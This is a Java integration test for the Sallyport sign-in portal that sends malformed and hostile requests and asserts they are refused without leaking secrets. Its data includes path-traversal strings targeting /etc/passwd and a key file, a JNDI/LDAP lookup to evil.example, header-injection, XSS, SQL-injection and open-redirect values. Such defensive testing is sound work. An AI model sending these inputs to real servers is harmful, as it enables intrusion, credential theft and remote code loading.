package org.sallyport.itests.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What no browser of a decent person sends: the right status, a plain page, and nothing in the log that should not be there. */
class BadInputIT {

    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String PLANTED = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFG";
    private static final String SESSION = "__Host-sallyport";
    private static final String SIGN_IN = "__Host-sallyport-signin";

    private static final Home HOME = Home.fresh("bad-input");
    private static final List<Browser> BROWSERS = new ArrayList<>();
    /** Every cookie value and form token that was ever seen, password, code and key: none may be in the log. */
    private static final Set<String> SECRETS = new TreeSet<>();

    private static Server server;
    private static Map<String, Person> people;
    private static Administrator administrator;

    @BeforeAll
    static void start() {
        server = Server.start(HOME, "--demo");
        people = server.people();
        people.values().forEach(person -> SECRETS.add(person.password()));
        administrator = Administrator.enrol(server, people.get("ada"));
        administrator.protect("alan");
        administrator.switchTwoFactor(true);
        people.get("alan").enrol(browser());
    }

    @AfterAll
    static void nothingSecretIsInTheLog() throws Exception {
        server.stop();
        for (String name : List.of("ada", "alan")) {
            for (long step = Authenticator.now() - 60; step < Authenticator.now() + 10; step++) {
                SECRETS.add(people.get(name).phone().code(step));
            }
            SECRETS.add(people.get(name).phone().key());
        }
        BROWSERS.forEach(browser -> SECRETS.addAll(browser.everyCookie()));
        for (String line : java.nio.file.Files.readAllLines(HOME.keyFile())) {
            if (line.startsWith("k-")) {
                SECRETS.add(line.substring(line.indexOf('=') + 1).strip());
            }
        }
        String log = HOME.log();
        for (String secret : SECRETS) {
            assertFalse(java.util.regex.Pattern.compile("(?<![A-Za-z0-9])" + java.util.regex.Pattern.quote(secret) + "(?![A-Za-z0-9])")
                    .matcher(log).find(), () -> secret + " is in the log:\n" + log);
        }
        assertFalse(log.contains("\tat "), () -> "a stack trace in the log:\n" + log);
        assertFalse(log.contains(" ERROR "), () -> "an error in the log:\n" + log);
        assertEquals(List.of(), server.err());
    }

    private static Browser browser() {
        Browser browser = new Browser(server);
        BROWSERS.add(browser);
        return browser;
    }

    private static Browser signedIn(String name) {
        Browser browser = browser();
        assertEquals("/", people.get(name).givePassword(browser).location());
        return browser;
    }

    /** A page of ours with the headers that every answer has, without a word of what is under it. */
    private static Page plain(Page page) {
        assertTrue(page.header("Content-Security-Policy").startsWith("default-src 'none'"), "CSP");
        assertTrue(page.header("Content-Security-Policy").contains("frame-ancestors 'none'"), "CSP");
        assertEquals("nosniff", page.header("X-Content-Type-Options"));
        assertEquals("no-referrer", page.header("Referrer-Policy"));
        assertEquals("", page.header("Server"));
        assertTrue(page.header("Cache-Control").equals("no-store") || page.header("Cache-Control").contains("immutable"));
        for (String setCookie : page.headers().allValues("Set-Cookie")) {
            assertTrue(setCookie.startsWith("__Host-"), setCookie);
            List<String> attributes = Arrays.asList(setCookie.split("; "));
            assertTrue(attributes.containsAll(List.of("Path=/", "Secure", "HttpOnly")), setCookie);
            assertTrue(attributes.contains("SameSite=Lax") || attributes.contains("SameSite=Strict"), setCookie);
            assertFalse(setCookie.contains("Domain"), setCookie);
        }
        assertWithoutInsides(page.body());
        if (page.status() >= 400 && !page.body().isEmpty()) {
            assertTrue(page.header("Content-Type").startsWith("text/html;charset=utf-8"), page.header("Content-Type"));
            assertTrue(page.html().title().endsWith("· Sallyport"), page::body);
        }
        if (!page.location().isEmpty()) {
            assertTrue(page.location().matches("/(?![/\\\\]).*|/"), () -> "leads elsewhere: " + page.location());
        }
        return page;
    }

    private static void assertWithoutInsides(String text) {
        for (String inside : List.of("Jetty", "jetty", "Exception", "\tat ", "org.sallyport", "java.", HOME.path().toString(), "root:x:")) {
            assertFalse(text.contains(inside), () -> inside + " in: " + text);
        }
    }

    private static Page postRaw(Browser browser, String path, String type, String body) {
        HttpRequest.Builder request = browser.request(path).POST(BodyPublishers.ofString(body));
        return plain(browser.send(type.isEmpty() ? request : request.header("Content-Type", type)));
    }

    /** The sign-in form's answer to this, sent as it stands after a valid token. */
    private static Page signInRaw(String encodedFields) {
        Browser browser = browser();
        String csrf = browser.get("/").csrf("/signin");
        SECRETS.add(csrf);
        return postRaw(browser, "/signin", FORM, "csrf=" + csrf + encodedFields);
    }

    @Test
    void fieldsOfAnyLength() {
        String name = "n".repeat(200);
        assertEquals(401, signInRaw("&username=" + name + "&password=" + "p".repeat(1024)).status());
        assertEquals(400, signInRaw("&username=" + name + "n&password=p").status());
        assertEquals(400, signInRaw("&username=n&password=" + "p".repeat(1025)).status());
        assertEquals(401, signInRaw("").status());
        assertEquals(401, signInRaw("&username=&password=").status());
        assertEquals(401, signInRaw("&username=alan&password=").status());
        assertEquals(401, signInRaw("&username=++&password=++").status());
        assertEquals(400, signInRaw("&username=alan&username=ada&password=x").status());
        assertEquals(401, signInRaw("&username=alan&password=x&" + "a=b&".repeat(500)).status());
        assertTrue(signInRaw("&username=" + name + "n&password=p").text().contains("Name: This is too long."));
    }

    @Test
    void codesOfAnyShape() {
        Browser browser = browser();
        people.get("alan").givePassword(browser);
        Page form = browser.get("/signin/code");
        for (String code : List.of("", "1", "12345678901234567890", "abcdef", "12 34", "-12345", "１２３", "0x1234", "' OR 1=1 --", "１２３４５６７")) {
            Page page = plain(browser.submit(form, "/signin/code", Map.of("code", code)));
            assertTrue(page.status() == 401 || page.status() == 429, () -> code + ": " + page.status());
        }
        assertEquals(400, plain(browser.submit(form, "/signin/code", Map.of("code", "1".repeat(33)))).status());
        administrator.unlock(people.get("alan"));
        // As people type it: in groups, with the digits of their script.
        String code = people.get("alan").nextCode();
        SECRETS.add(code);
        String typed = " " + code.substring(0, 3) + "\u00a0" + (char) ('\uff10' + code.charAt(3) - '0') + code.substring(4) + "\t";
        assertEquals("/", browser.submit(form, "/signin/code", Map.of("code", typed)).location());
    }

    @ParameterizedTest
    @ValueSource(strings = {"%ff%fe", "%c0%80", "%ed%a0%80", "%", "%4", "%zz", "a%", "%e2%82"})
    void whatIsNotUtf8(String encoded) {
        for (Page page : List.of(signInRaw("&username=" + encoded + "&password=x"), signInRaw("&username=x&password=" + encoded),
                signInRaw("&" + encoded + "=x&username=x&password=x"))) {
            assertEquals(400, page.status());
            assertTrue(page.text().contains("The request was not valid UTF-8."), page::text);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"%00", "%0a", "%0d%0aSet-Cookie:x=y", "%1b%5b2J", "%7f", "%c2%85", "%e2%80%ae", "%e2%80%8f", "%e2%80%a8", "%ef%bb%bf",
        "%ef%bf%bf"})
    void namesWithCharactersThatNobodySees(String encoded) {
        assertEquals(400, signInRaw("&username=al" + encoded + "an&password=x").status());
        // Another name each time: wrong passwords for one are counted.
        String nobody = "nobody-" + Integer.toHexString(encoded.hashCode());
        assertEquals(401, signInRaw("&username=" + nobody + "&password=a" + encoded + "b").status(), "a password may hold anything");
    }

    @Test
    void namesThatOnlyLookAlike() {
        String password = Browser.encode(people.get("grace").password());
        for (String name : List.of("gr\u0430ce", "gr\u00e0ce", "grac\u0435", "grace\u0301", "g race", "grace.", "grace/..", "grace%", "gra\u200bce")) {
            int status = signInRaw("&username=" + Browser.encode(name) + "&password=" + password).status();
            assertTrue(status == 401 || status == 400, () -> name + ": " + status);
        }
        // The same name, written otherwise, is the same person.
        for (String name : List.of("GRACE", " grace ", "\uff47\uff52\uff41\uff43\uff45")) {
            assertEquals(303, signInRaw("&username=" + Browser.encode(name) + "&password=" + password).status(), name);
        }
        Browser console = administrator.browser();
        for (String name : List.of("GRACE", "\uff47race", "gr\u0430ce", "grace\u202e", "<script>", "a\u0000b", "", "n".repeat(201), "'; DROP TABLE")) {
            Page form = console.get("/console/accounts/new-user");
            Page refused = plain(console.submit(form, "/console/accounts/new-user", Map.of("login", name, "displayName", "", "password",
                    "the lazy dog sleeps", "again", "the lazy dog sleeps")));
            assertTrue(refused.status() == 422 || refused.status() == 400, () -> name + ": " + refused.status() + " " + refused.location());
        }
    }

    @Test
    void whatIsTypedComesBackAsTextOnly() {
        Page page = signInRaw("&username=" + Browser.encode("\"><script>alert(1)</script>") + "&password=x");
        assertEquals(401, page.status());
        assertFalse(page.body().contains("<script>"), page::body);
        assertEquals("\"><script>alert(1)</script>", page.html().select("#username").attr("value"));
        Page search = administrator.browser().get("/console/accounts?q=" + Browser.encode("\"><img src=x>{{t.nav.log}}{{{body}}}"));
        assertEquals(200, search.status());
        assertFalse(search.body().contains("<img"), search::body);
        assertTrue(search.html().select("[name=q]").attr("value").contains("{{t.nav.log}}"));
    }

    @Test
    void bodiesThatAreTooLarge() {
        assertEquals(413, signInRaw("&username=" + "x".repeat(17_000)).status());
        Browser browser = browser();
        HttpRequest.Builder chunked = browser.request("/signin").header("Content-Type", FORM)
                .POST(BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(new byte[200_000])));
        assertEquals(413, plain(browser.send(chunked)).status());
        Wire.Said announced = Wire.say(server, "POST /signin HTTP/1.1\r\nHost: " + host() + "\r\nContent-Type: " + FORM
                + "\r\nContent-Length: 99999999999\r\nConnection: close\r\n\r\n");
        assertEquals(413, announced.status(), announced::head);
        for (String path : List.of("/health", "/", "/nowhere")) {
            Page page = postRaw(browser, path, FORM, "x=".repeat(50_000));
            assertTrue(page.status() == 404 || page.status() == 405, () -> path + ": " + page.status());
        }
        Page list = administrator.browser().get("/console/members/add");
        assertEquals(413, postRaw(administrator.browser(), "/console/members/add", FORM, "csrf=" + list.csrf("/console/members/add") + "&id=x".repeat(40_000))
                .status());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "text/plain", "application/json", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded; charset=utf-16",
        "application/x-www-form-urlencoded; charset=iso-8859-1", "nonsense"})
    void bodiesOfAnotherType(String type) {
        assertEquals(415, postRaw(browser(), "/signin", type, "username=a&password=b").status());
    }

    @Test
    void formsWithoutTheTokenOfThisVisitAndThisForm() {
        Browser visit = browser();
        String token = visit.get("/").csrf("/signin");
        Browser stranger = browser();
        String foreign = stranger.get("/").csrf("/signin");
        SECRETS.addAll(List.of(token, foreign));
        assertNotEquals(token, foreign);
        String person = "&username=hedy&password=" + Browser.encode(people.get("hedy").password());
        for (String csrf : List.of("", "csrf=", "csrf=x", "csrf=" + foreign, "csrf=" + token + "x", "csrf=" + "A".repeat(43))) {
            assertEquals(403, postRaw(visit, "/signin", FORM, csrf + person).status(), csrf);
        }
        assertEquals(403, postRaw(browser(), "/signin", FORM, "csrf=" + token + person).status(), "a browser without cookies");
        assertEquals(303, postRaw(visit, "/signin", FORM, "csrf=" + token + person).status());
        assertEquals(403, postRaw(visit, "/signin", FORM, "csrf=" + token + person).status(), "the token of before the sign-in");
        assertEquals(403, postRaw(visit, "/signout", FORM, "csrf=" + token).status(), "another form's token");

        Page home = visit.get("/");
        String out = home.csrf("/signout");
        SECRETS.add(out);
        for (Map.Entry<String, String> header : Map.of("Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example").entrySet()) {
            HttpRequest.Builder request = visit.request("/signout").header("Content-Type", FORM).header(header.getKey(), header.getValue())
                    .POST(BodyPublishers.ofString("csrf=" + out));
            assertEquals(403, plain(visit.send(request)).status(), header.getKey());
        }
        assertEquals(200, visit.get("/").status());
        String cookie = visit.cookies().get(SESSION);
        assertEquals(303, postRaw(visit, "/signout", FORM, "csrf=" + out).status());
        visit.cookies().put(SESSION, cookie);
        assertFalse(visit.get("/").text().contains("Hedy"), "a session that was signed out is gone");
    }

    /** Every form of the console and of the portal refuses what does not carry its token. */
    @ParameterizedTest
    @ValueSource(strings = {"/console/switch", "/console/members", "/console/members/add", "/console/members/remove", "/console/reset/confirm",
        "/console/reset/unlock", "/console/accounts/new-user", "/console/accounts/new-group", "/console/settings",
        "/console/settings/administrators", "/console/settings/administrators/remove", "/console/accounts/members", "/signout"})
    void formsOfSomebodySignedIn(String action) {
        Browser browser = administrator.browser();
        assertEquals(403, postRaw(browser, action, FORM, "to=off&revision=1").status());
        assertEquals(403, postRaw(browser, action, FORM, "csrf=" + browser.get("/console/switch?to=off").csrf("/console/switch") + "x&to=off").status());
        assertEquals(200, browser.get("/console/").status());
    }

    @Test
    void aCookieThatWasPlantedIsNotTheOneAfterwards() {
        Browser browser = browser();
        browser.cookies().putAll(Map.of(SESSION, PLANTED, SIGN_IN, PLANTED + "x"));
        Page home = people.get("hedy").givePassword(browser);
        assertEquals("/", home.location());
        assertNotEquals(PLANTED, browser.cookies().get(SESSION));
        assertFalse(browser.cookies().containsKey(SIGN_IN));

        Browser halfway = browser();
        halfway.cookies().put(SIGN_IN, PLANTED);
        assertEquals("/signin/code", people.get("alan").givePassword(halfway).location());
        String signIn = halfway.cookies().get(SIGN_IN);
        assertNotEquals(PLANTED, signIn);
        assertEquals("/", people.get("alan").giveCode(halfway, people.get("alan").nextCode()).location());
        assertNotEquals(signIn, halfway.cookies().get(SESSION));
        Browser thief = browser();
        thief.cookies().put(SIGN_IN, signIn);
        assertEquals("/signin?why=expired", thief.get("/signin/code").location(), "a sign-in that is done is gone");
    }

    @Test
    void aStrongerSessionIsAnotherOne() {
        Browser browser = signedIn("frances");
        String weak = browser.cookies().get(SESSION);
        administrator.protect("frances");
        assertEquals("/signin/enrol", browser.get("/").location());
        Page activation = browser.get("/signin/enrol");
        people.get("frances").scan(activation);
        assertEquals("/", browser.submit(activation, "/signin/enrol", Map.of("code", people.get("frances").nextCode())).location());
        assertNotEquals(weak, browser.cookies().get(SESSION));
        Browser thief = browser();
        thief.cookies().put(SESSION, weak);
        assertFalse(thief.get("/").text().contains("Frances"));
    }

    @Test
    void aNewSignInEndsTheOldSession() {
        Browser browser = signedIn("katherine");
        String first = browser.cookies().get(SESSION);
        Page form = browser.open("/");
        browser.cookies().remove(SESSION);
        assertEquals(200, form.status());
        browser.cookies().put(SESSION, first);
        Browser other = signedIn("katherine");
        assertNotEquals(first, other.cookies().get(SESSION));
        browser.submit(browser.get("/"), "/signout", Map.of());
        assertTrue(other.get("/").text().contains("Katherine"), "another browser's session is not concerned");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd", "/assets/../../conf/sallyport.key",
        "/assets/..%5c..%5cconf", "/assets/%2e%2e/%2e%2e/conf/sallyport.key", "/..;/console/", "/console/..;/", "/;/console/", "/console;x=y/",
        "//console/", "///", "/console/%2e%2e/console/", "/%00", "/a%00b", "/%ff", "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF",
        "/templates/code.html", "/org/sallyport/portal/PortalServlet.class", "/console//", "/%2fconsole/", "/system/console", "/assets/",
        "http://evil.example/", "*", "evil.example:80", "/a b", "/\\evil", "/console/accounts/account?account=local:user:..%2f..%2fx"})
    void pathsThatLeadNowhere(String target) {
        Wire.Said said = Wire.say(server, Wire.get(target, host(), ""));
        assertTrue(Set.of(200, 303, 400, 404).contains(said.status()), said::head);
        assertWithoutInsides(said.text());
        assertSafe(said);
        if (said.status() == 200) {
            assertTrue(said.text().contains("action=\"/signin\""), said::text);
        }
        assertTrue(said.status() != 303 || said.header("Location").startsWith("/signin"), said::head);
    }

    /** Also what the HTTP server itself refuses, before it comes to us. */
    private static void assertSafe(Wire.Said said) {
        assertTrue(said.header("Content-Security-Policy").startsWith("default-src 'none'"), said::head);
        assertEquals("nosniff", said.header("X-Content-Type-Options"), said::head);
        assertEquals("", said.header("Server"), said::head);
        assertWithoutInsides(said.text());
    }

    private static String host() {
        return "127.0.0.1:" + server.port();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/nowhere", "/signin/nowhere", "/console/nowhere", "/assets/nowhere.css", "/setup/nowhere", "/setup/", "/health/x", "/favicon.ico",
        "/apis/v1/", "/.git/config", "/console/accounts/account?account=local:user:nobody", "/console/accounts/account?account=%00"})
    void pagesThatAreNotThere(String path) {
        Page page = plain(administrator.browser().get(path));
        assertTrue(page.status() == 404 || page.status() == 400, () -> path + ": " + page.status());
        assertFalse(page.html().select("h1").text().isEmpty(), page::body);
        Page stranger = plain(browser().get(path));
        assertTrue(stranger.status() == 404 || path.startsWith("/console") && (stranger.status() == 303 || stranger.status() == 400),
                () -> path + ": " + stranger.status());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "/ | GET, HEAD", "/signin | GET, HEAD, POST", "/signin/code | GET, HEAD, POST", "/signout | POST", "/signin/again | POST",
        "/health | GET, HEAD", "/console/ | GET, HEAD", "/console/settings | GET, HEAD, POST"})
    void verbsThatMeanNothingHere(String path, String allowed) {
        for (String verb : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "NONSENSE", "get")) {
            Browser browser = browser();
            Page page = plain(browser.send(browser.request(path).method(verb, BodyPublishers.noBody())));
            assertEquals(405, page.status(), verb);
            assertEquals(allowed, page.header("Allow"), verb);
        }
        if (!allowed.contains("POST")) {
            assertEquals(405, postRaw(browser(), path, FORM, "x=y").status());
        }
        if (!allowed.contains("GET")) {
            assertEquals(405, plain(browser().get(path)).status());
        }
    }

    @Test
    void headIsGetWithoutItsBody() {
        Browser browser = browser();
        Page page = plain(browser.send(browser.request("/").method("HEAD", BodyPublishers.noBody())));
        assertEquals(200, page.status());
        assertEquals("", page.body());
    }

    @Test
    void headersWithoutSense() {
        Browser browser = browser();
        String session = signedIn("hedy").cookies().get(SESSION);
        for (Map.Entry<String, String> header : List.of(
                Map.entry("Cookie", SESSION + "=" + "x".repeat(3000)),
                Map.entry("Cookie", SESSION + "=\"; " + SIGN_IN + "=<>; =; ;;; $Version=1"),
                Map.entry("Cookie", SESSION + "=" + session.substring(1)),
                Map.entry("Accept-Language", "xx-YY;q=9,*;q=-1,,,;;;" + "de,".repeat(300)),
                Map.entry("Accept-Language", "../../../etc/passwd"),
                Map.entry("User-Agent", "\u00ff<script>${jndi:ldap://evil.example/a}" + "u".repeat(2000)),
                Map.entry("X-Forwarded-For", "127.0.0.1, ${x}"),
                Map.entry("X-Forwarded-Host", "evil.example"),
                Map.entry("X-HTTP-Method-Override", "DELETE"),
                Map.entry("Range", "bytes=0-1,5-,-9999999999999999999"),
                Map.entry("Accept-Encoding", "gzip;q=NaN"))) {
            Page page = plain(browser.send(browser.request("/").header(header.getKey(), header.getValue()).GET()));
            assertEquals(200, page.status(), () -> header + ": " + page.text());
            assertFalse(page.body().contains("evil.example"), page::body);
            assertFalse(page.text().contains("Hedy"), page::text);
        }
        for (String headers : List.of("X: " + "x".repeat(30_000) + "\r\n", "Cookie: " + "a=b; ".repeat(5_000) + "\r\n", "X\r\n", "X : y\r\n", ": y\r\n",
                "X: a\u0000b\r\n", "Content-Length: -1\r\n", "Content-Length: 1\r\nContent-Length: 2\r\n",
                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: nonsense\r\n", "Host: other.example\r\n")) {
            Wire.Said said = Wire.say(server, Wire.get("/", host(), headers));
            assertTrue(Set.of(400, 431, 501).contains(said.status()), () -> headers.strip() + ": " + said.head());
            assertSafe(said);
        }
        for (String start : List.of("GET / HTTP/9.9", "GET /", "NONSENSE", "GET / HTTP/1.1 extra", "G\u0001T / HTTP/1.1", "\u0016\u0003\u0001\u0002\u0000\u0001")) {
            Wire.Said said = Wire.say(server, start + "\r\nHost: " + host() + "\r\nConnection: close\r\n\r\n");
            assertTrue(said.text().isEmpty() || Set.of(400, 426, 505).contains(said.status()), () -> start + ": " + said.head());
            assertWithoutInsides(said.text());
        }
    }

    /** Whatever host is named, pages and redirects lead to where the browser is anyway. */
    @ParameterizedTest
    @ValueSource(strings = {"evil.example", "evil.example:80", "127.0.0.1@evil.example", "127.0.0.1:1", "[::1]", "localhost", "", "a b", "evil.example/x"})
    void hostsThatAreNotOurs(String host) {
        Wire.Said form = Wire.say(server, Wire.get("/", host, ""));
        assertTrue(form.status() == 200 || form.status() == 400, form::head);
        assertFalse(form.text().contains("evil.example"), form::text);
        assertSafe(form);
        Wire.Said sent = Wire.say(server, Wire.get("/console/", host, ""));
        assertTrue(sent.status() == 303 && sent.header("Location").equals("/signin?next=%2Fconsole%2F") || sent.status() == 400, sent::head);
        Wire.Said none = Wire.say(server, "GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
        assertEquals(400, none.status());
        assertSafe(none);
    }

    @ParameterizedTest
    @ValueSource(strings = {"//evil.example", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "/console/../..", "/console/..//evil.example",
        "/console//evil.example", "/console/%2e%2e/%2e%2e/", "javascript:alert(1)", "/console/\r\nLocation: //evil.example", "/console/@evil.example",
        "/console", "/signout", "/nowhere", "/console/?x=//evil.example#", "data:text/html,x", "/console/\u0000"})
    void placesToGoThatAreNotOurs(String next) {
        Browser browser = browser();
        Page form = plain(browser.get("/signin?next=" + Browser.encode(next)));
        if (form.status() == 400) {
            return;
        }
        Page home = plain(browser.submit(form, "/signin", Map.of("username", "hedy", "password", people.get("hedy").password())));
        assertEquals("/", home.location());

        Browser posted = browser();
        Page answer = plain(posted.submit(posted.get("/"), "/signin", Map.of("username", "hedy", "password", people.get("hedy").password(), "next", next)));
        assertTrue(answer.status() == 400 || answer.location().equals("/"), answer::location);
    }

    @Test
    void aPlaceInTheConsoleIsGoneTo() {
        Browser browser = browser();
        Page form = browser.get("/signin?next=" + Browser.encode("/console/log?q=alan"));
        Page challenge = browser.submit(form, "/signin", Map.of("username", "ada", "password", people.get("ada").password()));
        assertTrue(challenge.location().startsWith("/signin/code?next="), challenge.location());
        Page code = browser.get(challenge.location());
        assertEquals("/console/log?q=alan", browser.submit(code, "/signin/code", Map.of("code", people.get("ada").currentCode())).location());
    }

    @Test
    void theConsoleIsForAdministratorsOnly() {
        Browser hedy = signedIn("hedy");
        Page refused = plain(hedy.get("/console/accounts"));
        assertEquals(403, refused.status());
        assertFalse(refused.text().contains("Alan"), refused::text);
        String token = hedy.get("/").csrf("/signout");
        assertEquals(403, postRaw(hedy, "/console/switch", FORM, "csrf=" + token + "&to=off&revision=1").status());
        assertEquals("/signin?next=%2Fconsole%2Faccounts", plain(browser().get("/console/accounts")).location());
    }
}
